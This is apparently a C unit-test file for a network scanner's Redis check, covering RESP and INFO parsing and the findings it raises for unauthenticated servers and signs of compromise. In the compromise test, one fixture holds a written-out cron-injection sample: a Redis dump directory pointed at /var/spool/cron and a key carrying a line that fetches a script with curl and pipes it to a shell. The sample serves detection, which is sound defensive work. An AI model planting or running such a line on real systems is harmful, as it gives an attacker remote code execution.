/*
 * test_redis.c - the Redis RESP/INFO parsers on replies recorded from the
 * lab's redis-server 7.0.15 (tests/fixtures/redis/) and constructed ones
 * (truncated, lying lengths, other protocols), and redis assess() on
 * fixture facts.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <criterion/criterion.h>
#include "expo.h"
#include "raw/redis_wire.h"
#include "rawapi_fixture.h"

extern const struct check check_redis;

static char *load(const char *name, size_t *len)
{
	char path[512];
	char *buf = malloc(65536);
	FILE *f;

	snprintf(path, sizeof(path), "tests/fixtures/redis/%s", name);
	f = fopen(path, "rb");
	cr_assert_not_null(f, "cannot open %s (run from the top directory)",
			   path);
	cr_assert_not_null(buf);
	*len = fread(buf, 1, 65535, f);
	fclose(f);
	return buf;
}

Test(redis_wire, recorded_info)
{
	struct redis_reply r;
	struct redis_info info;
	size_t len, used = 0;
	char *buf = load("7.0.15-info.resp", &len);

	cr_assert_eq(redis_wire_reply(buf, len, &r, &used), 0);
	cr_expect_eq(r.type, REDIS_R_BULK);
	cr_expect_eq(used, len);
	cr_assert_eq(redis_wire_info(r.data, r.len, &info), 0);
	cr_expect_str_eq(info.version, "7.0.15");
	cr_expect_str_eq(info.mode, "standalone");
	cr_expect_str_eq(info.role, "master");
	cr_expect_eq(info.clients, 3);
	cr_expect_eq(info.keys, 1);
	cr_expect_eq(info.ndbs, 1);
	free(buf);
}

Test(redis_wire, recorded_noauth)
{
	struct redis_reply r;
	size_t len, used = 0;
	char *buf = load("7.0.15-noauth.resp", &len);
	char code[16];

	cr_assert_eq(redis_wire_reply(buf, len, &r, &used), 0);
	cr_expect_eq(r.type, REDIS_R_ERROR);
	redis_wire_errcode(&r, code, sizeof(code));
	cr_expect_str_eq(code, "NOAUTH");
	free(buf);
}

Test(redis_wire, recorded_sentinel)
{
	struct redis_reply r;
	struct redis_info info;
	size_t len, used = 0;
	char *buf = load("7.0.15-sentinel-info.resp", &len);

	cr_assert_eq(redis_wire_reply(buf, len, &r, &used), 0);
	cr_assert_eq(redis_wire_info(r.data, r.len, &info), 0);
	cr_expect_str_eq(info.mode, "sentinel");
	free(buf);
}

Test(redis_wire, denied)
{
	static const char d[] =
		"-DENIED Redis is running in protected mode "
		"because protected mode is enabled and no password is set for "
		"the default user.\r\n";
	struct redis_reply r;
	size_t used = 0;
	char code[16];

	cr_assert_eq(redis_wire_reply(d, sizeof(d) - 1, &r, &used), 0);
	redis_wire_errcode(&r, code, sizeof(code));
	cr_expect_str_eq(code, "DENIED");
	cr_expect_eq(used, sizeof(d) - 1);
}

Test(redis_wire, truncated_every_prefix)
{
	struct redis_reply r;
	size_t len, used = 0, i;
	char *buf = load("7.0.15-info.resp", &len);

	for (i = 0; i < len; i++)
		cr_assert_eq(redis_wire_reply(buf, i, &r, &used),
			     REDIS_WIRE_MORE, "prefix %zu", i);
	free(buf);
}

Test(redis_wire, lying_and_bad_lengths)
{
	struct redis_reply r;
	size_t used = 0;

	/* says 3, carries 6: the CRLF is not where the length says */
	cr_expect_eq(redis_wire_reply("$3\r\nabcdef\r\n", 12, &r, &used),
		     EXPO_EPARSE);
	/* says 10, carries 3: wait for more */
	cr_expect_eq(redis_wire_reply("$10\r\nabc\r\n", 10, &r, &used),
		     REDIS_WIRE_MORE);
	cr_expect_eq(redis_wire_reply("$99999999999\r\n", 14, &r, &used),
		     EXPO_ETOOBIG);
	cr_expect_eq(redis_wire_reply("$-5\r\n", 5, &r, &used), EXPO_EPARSE);
	cr_expect_eq(redis_wire_reply("$\r\n", 3, &r, &used), EXPO_EPARSE);
	cr_expect_eq(redis_wire_reply("$1x\r\n", 5, &r, &used), EXPO_EPARSE);
	cr_expect_eq(redis_wire_reply("$-1\r\n", 5, &r, &used), 0);
	cr_expect_eq(r.type, REDIS_R_NIL);
	cr_expect_eq(redis_wire_reply("$0\r\n\r\n", 6, &r, &used), 0);
	cr_expect_eq(r.len, 0);
}

Test(redis_wire, other_protocols_and_long_lines)
{
	static char line[REDIS_LINE_MAX + 10];
	struct redis_reply r;
	size_t used = 0;

	cr_expect_eq(
		redis_wire_reply("HTTP/1.1 400 Bad Request\r\n", 26, &r, &used),
		EXPO_EPROTO);
	cr_expect_eq(redis_wire_reply("SSH-2.0-x\r\n", 11, &r, &used),
		     EXPO_EPROTO);
	memset(line, 'a', sizeof(line));
	line[0] = '-';
	cr_expect_eq(redis_wire_reply(line, sizeof(line), &r, &used),
		     EXPO_ETOOBIG);
}

Test(redis_wire, info_not_info)
{
	struct redis_info info;
	static const char t[] = "hello world\r\nfoo:bar\r\n";
	static const char k[] =
		"redis_version:6.2.1\r\nconnected_clients:x\r\n"
		"db0:keys=5,expires=0\r\ndb15:keys=7\r\ndbx:keys=9\r\n"
		"db1:keys=-3\r\n";

	cr_expect_eq(redis_wire_info(t, sizeof(t) - 1, &info), EXPO_EPARSE);
	cr_assert_eq(redis_wire_info(k, sizeof(k) - 1, &info), 0);
	cr_expect_eq(info.clients, -1);
	cr_expect_eq(info.keys, 12);
	cr_expect_eq(info.ndbs, 2);
}

/* ---- assess ---- */

Test(redis_assess, info_is_no_auth)
{
	struct rawfix f;
	const struct finding *x;

	rawfix_run(&f, &check_redis, 6379,
		   "{\"reply\":\"info\","
		   "\"redis_version\":\"7.0.15\",\"redis_mode\":\"standalone\","
		   "\"role\":\"master\",\"connected_clients\":2,\"keys\":41,"
		   "\"dbs\":1}",
		   false);
	x = rawfix_one(&f, "redis.no_auth");
	cr_assert_not_null(x);
	cr_expect(strstr(x->evidence, "Redis 7.0.15") != NULL, "%s",
		  x->evidence);
	cr_expect(strstr(x->evidence, "role master") != NULL);
	cr_expect(strstr(x->evidence, "2 connected clients") != NULL);
	cr_expect(strstr(x->evidence, "41 keys") != NULL);
	cr_expect_eq(x->confidence, CONFIDENCE_CONFIRMED);
	rawfix_release(&f);
}

Test(redis_assess, sentinel_named)
{
	struct rawfix f;
	const struct finding *x;

	rawfix_run(&f, &check_redis, 6379,
		   "{\"reply\":\"info\","
		   "\"redis_version\":\"7.0.15\",\"redis_mode\":\"sentinel\","
		   "\"role\":\"\",\"connected_clients\":1,\"keys\":0}",
		   false);
	x = rawfix_one(&f, "redis.no_auth");
	cr_assert_not_null(x);
	cr_expect(strstr(x->evidence, "Sentinel") != NULL, "%s", x->evidence);
	rawfix_release(&f);
}

Test(redis_assess, negatives)
{
	static const char *const cases[] = {
		"{\"reply\":\"auth_required\",\"error\":\"NOAUTH Authentication required.\"}",
		"{\"reply\":\"protected_mode\",\"error\":\"DENIED Redis is running in protected mode\"}",
		"{\"reply\":\"error\",\"error\":\"ERR unknown command\"}",
		"{\"reply\":\"unexpected\"}",
		/* no version: INFO was not proven */
		"{\"reply\":\"info\"}",
		"{}",
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct rawfix f;

		rawfix_run(&f, &check_redis, 6379, cases[i], false);
		cr_expect_eq(rawfix_count(&f), 0, "%s", cases[i]);
		rawfix_release(&f);
	}
}

/* ---- redis.compromise_indicator ---- */

Test(redis_wire, next_ints_and_arrays)
{
	static const char b[] = ":42\r\n*2\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n"
				"*-1\r\n-ERR x\r\n";
	struct redis_reply r;
	size_t off = 0, used;

	cr_assert_eq(redis_wire_next(b, sizeof(b) - 1, &r, &used), 0);
	cr_expect_eq(r.type, REDIS_R_INT);
	cr_expect_eq(r.num, 42);
	off += used;
	cr_assert_eq(redis_wire_next(b + off, sizeof(b) - 1 - off, &r, &used),
		     0);
	cr_expect_eq(r.type, REDIS_R_ARRAY);
	cr_expect_eq(r.num, 2);
	off += used;
	cr_assert_eq(redis_wire_next(b + off, sizeof(b) - 1 - off, &r, &used),
		     0);
	cr_expect_eq(r.type, REDIS_R_BULK);
	off += used;
	cr_assert_eq(redis_wire_next(b + off, sizeof(b) - 1 - off, &r, &used),
		     0);
	off += used;
	cr_assert_eq(redis_wire_next(b + off, sizeof(b) - 1 - off, &r, &used),
		     0);
	cr_expect_eq(r.type, REDIS_R_ARRAY);
	cr_expect_eq(r.num, -1);
	off += used;
	cr_assert_eq(redis_wire_next(b + off, sizeof(b) - 1 - off, &r, &used),
		     0);
	cr_expect_eq(r.type, REDIS_R_ERROR);
	cr_expect_eq(redis_wire_next(":12", 3, &r, &used), REDIS_WIRE_MORE);
	cr_expect_eq(redis_wire_next(":1x\r\n", 5, &r, &used), EXPO_EPARSE);
	cr_expect_eq(redis_wire_next("*-2\r\n", 5, &r, &used), EXPO_EPARSE);
}

#define REDIS_OPEN_FACTS                                                  \
	"\"reply\":\"info\",\"redis_version\":\"7.0.15\",\"redis_mode\":" \
	"\"standalone\",\"role\":\"master\",\"connected_clients\":2,"     \
	"\"keys\":4,\"dbs\":1"

/* the finding of rule among several, or NULL */
static const struct finding *rawfix_rule(struct rawfix *f, const char *rule)
{
	struct finding_list *l = ctx_findings(f->ctx);
	size_t i;

	for (i = 0; i < l->n; i++)
		if (strcmp(l->v[i].rule_id, rule) == 0)
			return &l->v[i];
	return NULL;
}

Test(redis_assess, compromise_indicator)
{
	struct rawfix f;
	const struct finding *x;

	/* cron injection: the dump file moved to a crontab folder, a key
	 * holding a line that fetches and pipes to a shell */
	rawfix_run(&f, &check_redis, 6379,
		   "{" REDIS_OPEN_FACTS ",\"config_dir\":\"/var/spool/cron\","
		   "\"config_dbfilename\":\"root\",\"sign_values\":{"
		   "\"backup1\":\"\\n\\n*/2 * * * * root curl -fsSL "
		   "http://127.0.0.1/b.sh | sh\\n\\n\",\"backup2\":\"fine\"}}",
		   false);
	x = rawfix_rule(&f, "redis.compromise_indicator");
	cr_assert_not_null(x);
	cr_expect_float_eq(x->cvss_score, 10.0, 1e-9);
	cr_expect_eq(x->severity, SEV_CRITICAL);
	cr_expect(strstr(x->evidence, "2 signs of compromise") &&
			  strstr(x->evidence,
				 "Redis dir set to a cron folder "
				 "\"/var/spool/cron\" in CONFIG GET "
				 "dir") &&
			  strstr(x->evidence, "in the value of key backup1") &&
			  strstr(x->evidence, "curl -fsSL") &&
			  strstr(x->evidence, "backup2") == NULL,
		  "%s", x->evidence);
	cr_expect_not_null(rawfix_rule(&f, "redis.no_auth"));
	rawfix_release(&f);

	/* the clean twin and the decoy (a known name holding harmless text,
	 * the default dir): the open door only */
	rawfix_run(&f, &check_redis, 6379,
		   "{" REDIS_OPEN_FACTS ",\"config_dir\":\"/var/lib/redis\","
		   "\"config_dbfilename\":\"dump.rdb\",\"sign_values\":{"
		   "\"backup1\":\"weekly backup at 02:00; see xmrig notes\"}}",
		   false);
	cr_expect_null(rawfix_rule(&f, "redis.compromise_indicator"));
	cr_expect_eq(rawfix_count(&f), 1);
	rawfix_release(&f);

	/* signs without a proven open door are not read as signs */
	rawfix_run(
		&f, &check_redis, 6379,
		"{\"reply\":\"auth_required\",\"config_dir\":\"/root/.ssh\"}",
		false);
	cr_expect_eq(rawfix_count(&f), 0);
	rawfix_release(&f);
}
